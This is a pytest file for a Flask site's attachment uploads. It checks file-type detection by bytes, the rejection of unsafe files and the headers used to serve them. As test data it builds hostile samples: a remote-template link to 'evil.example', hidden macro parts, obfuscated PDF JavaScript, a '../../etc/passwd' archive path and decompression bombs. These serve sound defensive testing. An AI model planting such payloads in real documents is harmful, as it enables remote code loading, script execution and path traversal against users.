"""Attached files: what is let in, by its bytes; who may fetch them, and how they are served."""

import os
import zlib
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta

import pytest
from flask import Flask

from tests.office import docx, package, pdf
from tests.page import Browser
from wardsite.extensions import db, transaction
from wardsite.media import attachments
from wardsite.media.file_kinds import MAX_UNPACKED, FileRefusedError, kind_of
from wardsite.media.files import files
from wardsite.models import Attachment, Document, User

NOW = datetime(2026, 11, 24, 3, tzinfo=UTC)
PDF = pdf([[(72, 700, "Thông báo")]])
DOCX = docx(["Thông báo"])
ODT = package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"})


def office(part: str, **more: str | bytes) -> bytes:
    return package({"[Content_Types].xml": "<Types/>", part: "<x/>", **more})


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, "pdf"),
        (DOCX, "docx"),
        (office("xl/workbook.xml"), "xlsx"),
        (office("ppt/presentation.xml"), "pptx"),
        (ODT, "odt"),
        (
            package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
            "ods",
        ),
    ],
)
def test_a_file_is_what_its_bytes_say(content: bytes, kind: str) -> None:
    assert kind_of(content).extension == kind


REMOTE = (
    '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
    'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)

# A part with macros may have any name: its type says what it is.
MACROS = (
    '<Types><Override PartName="/word/styles2.bin" '
    'ContentType="application/vnd.ms-office.vbaProject"/></Types>'
)
HIDDEN = (
    b"9 0 obj<</Type/ObjStm/DecodeParms<<>>/Filter/FlateDecode>>\nstream\n"
    + zlib.compress(b"8 0 <</S/JavaScript/JS(app.alert(1))>>")
    + b"\nendstream endobj\n"
)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty"),
        (b"<html><script>1</script></html>", "html"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "Only PDF"),
        (b"MZ\x90\x00" + b"\0" * 200, "Only PDF"),
        (b"GIF89a%PDF-1.4 %%EOF", "Only PDF"),
        (package({"a.pdf": PDF}), "Compressed files"),
        (office("word/document.xml", **{"word/vbaProject.bin": b"x"}), "macros"),
        (office("word/document.xml", **{"word/activeX/activeX1.xml": b"x"}), "macros"),
        (
            package({"[Content_Types].xml": MACROS, "word/document.xml": "<x/>"}),
            "macros",
        ),
        (
            package({"[Content_Types].xml": MACROS.encode("utf-16"), "word/document.xml": "<x/>"}),
            "macros",
        ),
        (
            package(
                {
                    "[Content_Types].xml": MACROS.replace("vba", "&#118;ba"),
                    "word/document.xml": "<x/>",
                }
            ),
            "macros",
        ),
        (office("word/document.xml", **{"word/_rels/settings.xml.rels": REMOTE}), "template"),
        (office("word/document.xml", **{"../../etc/passwd": b"x"}), "damaged"),
        (DOCX[:200], "damaged"),
        (PDF[:-60], "damaged"),
        (PDF.replace(b"/Type /Catalog", b"/Type /Catalog /S /JavaScript"), "script"),
        (PDF.replace(b"/Type /Catalog", b"/Type /Catalog /S /J#61vaScript"), "script"),
        (PDF.replace(b"%%EOF", HIDDEN + b"%%EOF"), "script"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old format"),
        (
            package(
                {
                    "mimetype": "application/vnd.oasis.opendocument.text",
                    "META-INF/manifest.xml": "<manifest:encryption-data/>",
                }
            ),
            "password",
        ),
    ],
)
def test_what_is_hostile_or_unusable_is_refused_with_its_reason(
    content: bytes, reason: str
) -> None:
    with pytest.raises(FileRefusedError, match=reason):
        kind_of(content)


@pytest.mark.parametrize(
    ("inside", "times"),
    [(b" " * 3_000_000, 30), (b" " * 5_000_000, 1), (os.urandom(2_000_000), 1)],
    ids=["many", "long", "dense"],
)
def test_a_pdf_with_more_objects_than_any_program_makes_is_refused(
    inside: bytes, times: int
) -> None:
    stream = b"9 0 obj<</Type/ObjStm>>stream\n" + zlib.compress(inside) + b"endstream\n"
    with pytest.raises(FileRefusedError, match="unpacks"):
        kind_of(PDF.replace(b"%%EOF", stream * times + b"%%EOF"))


def test_a_bomb_is_refused_without_being_unpacked() -> None:
    bomb = office("word/document.xml", **{"word/media/a.bin": b"\0" * (MAX_UNPACKED + 1)})
    assert len(bomb) < 1_000_000
    with pytest.raises(FileRefusedError, match="unpacks"):
        kind_of(bomb)


@pytest.fixture
def document_id(app: Flask) -> int:
    with app.app_context(), transaction() as session:
        row = Document(
            slug="15-qd-ubnd",
            kind="quyet-dinh",
            code="15/QĐ-UBND",
            code_folded="15/qd-ubnd",
            issuer="UBND phường Hạ Đình",
            issued_on=date(2026, 11, 20),
            summary="Về việc thử",
            created_at=NOW,
            updated_at=NOW,
        )
        session.add(row)
        session.flush()
        return row.id


def put(app: Flask, content: bytes, name: str, document_id: int | None = None) -> str:
    from wardsite.media.views import attachment_url

    with app.test_request_context():
        row = attachments.add_attachment(content, name, None, NOW, document_id=document_id)
        return attachment_url(row)


def test_a_pdf_is_shown_and_downloaded_and_nothing_in_it_runs(
    app: Flask, client: Browser, document_id: int
) -> None:
    url = put(app, PDF, "C:\\Tài liệu\\Thông báo số 1.pdf.exe", document_id)
    assert url.endswith("/thong-bao-so-1-pdf.pdf")
    answer = client.get(url).response
    assert answer.data == PDF
    assert answer.mimetype == "application/pdf"
    assert answer.headers["Content-Disposition"].startswith("inline")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "script-src" not in answer.headers["Content-Security-Policy"]
    assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
    download = client.get(f"{url}?tai-ve=1").response
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert download.headers["Content-Security-Policy"].startswith("sandbox")


def test_anything_but_a_pdf_is_only_downloaded(
    app: Flask, client: Browser, document_id: int
) -> None:
    answer = client.get(put(app, DOCX, "a.html", document_id)).response
    assert answer.headers["Content-Disposition"] == "attachment; filename=a.docx"
    assert answer.mimetype.endswith("wordprocessingml.document")
    assert answer.headers["Content-Security-Policy"].startswith("sandbox")


def test_a_wrong_name_leads_to_the_right_one(app: Flask, client: Browser, document_id: int) -> None:
    url = put(app, DOCX, "a.docx", document_id)
    answer = client.client.get(url.replace("a.docx", "b.html"))
    assert (answer.status_code, answer.headers["Location"]) == (301, url)


def test_a_file_that_nothing_owns_is_for_the_officer_alone_who_uploaded_it(
    app: Flask, client: Browser, signed_in: Callable[[str], Browser]
) -> None:
    url = put(app, PDF, "nhap.pdf")
    with app.app_context(), transaction() as session:
        author = session.query(User).filter_by(name="the-author").one()
        session.query(Attachment).one().user_id = author.id
    client.get(url, 404)
    signed_in("admin").get(url, 404)
    answer = signed_in("author").get(url).response
    assert answer.headers["Cache-Control"] == "private, no-store"


def test_what_nothing_owns_goes_after_a_day(app: Flask, document_id: int) -> None:
    put(app, PDF, "giu.pdf", document_id)
    put(app, DOCX, "bo.docx")
    with app.app_context():
        old = (NOW + timedelta(hours=1)).timestamp()
        for path in (files().folder / "attachments").iterdir():
            os.utime(path, (old, old))
        assert attachments.tidy(NOW + timedelta(hours=23)) == 0
        assert attachments.tidy(NOW + timedelta(hours=26)) == 1
        assert [row.title for row in db.session.query(Attachment)] == ["giu.pdf"]
        assert len(list((files().folder / "attachments").iterdir())) == 1
